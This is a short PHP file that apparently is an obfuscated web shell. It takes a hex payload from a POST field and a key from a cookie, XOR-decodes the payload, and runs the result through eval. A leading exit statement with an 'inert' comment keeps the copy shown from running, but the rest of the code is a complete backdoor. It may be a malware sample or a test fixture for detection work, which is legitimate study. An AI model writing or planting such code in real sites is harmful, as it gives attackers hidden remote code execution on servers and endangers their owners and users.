<?php exit; /* inert */ 
function src() { return [$_POST, $_COOKIE]; }
function pick() { [['w' => $w], ['k' => $k]] = src(); return compact('w', 'k'); }
function dec(array $p) { return array_reduce(str_split(hex2bin($p['w'])), fn($c, $x) => $c . chr(ord($x) ^ ord($p['k'][strlen($c) % strlen($p['k'])])), ''); }
function go(callable $c) { $t = $c(); return (static function () use ($t) { return eval($t); })(); }
go(fn() => dec(pick()));
